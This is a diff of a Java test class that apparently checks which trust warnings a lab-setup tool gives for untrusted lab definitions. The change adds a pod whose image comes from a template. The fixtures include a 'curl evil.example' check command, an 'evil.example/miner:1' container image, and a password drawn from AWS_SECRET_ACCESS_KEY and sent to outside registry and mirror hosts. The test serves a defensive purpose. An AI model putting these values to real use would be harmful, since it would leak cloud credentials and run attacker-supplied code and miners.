@@ -66,6 +66,7 @@ class LabTrustTest {
                      login: {username: me, passwordEnv: AWS_SECRET_ACCESS_KEY}}
                 apps:
                   - {name: shop}
+                  - {name: more}
                 checks:
                   - {name: it, exec: {machine: control, command: [curl, evil.example]}}
                 """);
@@ -78,6 +79,15 @@ class LabTrustTest {
                     - name: shop
                       image: evil.example/miner:1
                 """);
+        Files.writeString(lab.resolveSibling("apps/more.yaml.ftl"), """
+                apiVersion: v1
+                kind: Pod
+                metadata: {name: more}
+                spec:
+                  containers:
+                    - name: more
+                      image: [=agnhostImage]
+                """);
         Files.copy(Path.of("Vagrantfile.ftl"), lab.resolveSibling("Vagrantfile.ftl"));
         Files.createDirectories(lab.resolveSibling("templates/linux"));
         Files.copy(Path.of("templates/linux/prepare.sh.ftl"), lab.resolveSibling("templates/linux/prepare.sh.ftl"));
@@ -88,7 +98,8 @@ class LabTrustTest {
                 "its own template linux/prepare.sh.ftl in the machines, as root", "the box evil/box",
                 "https://boxes.example", "http://proxy.example:3128", "the environment variable AWS_SECRET_ACCESS_KEY",
                 "to https://registry.example", "that password also to http://mirror.example",
-                "run curl evil.example in control", "apply apps/shop.yaml", "containers of evil.example/miner:1");
+                "run curl evil.example in control", "apply apps/shop.yaml", "containers of evil.example/miner:1",
+                "containers of an image that more.yaml.ftl fills in");
     }
 
     /** Whatever its name: a known box from a stranger's place is a stranger's. */
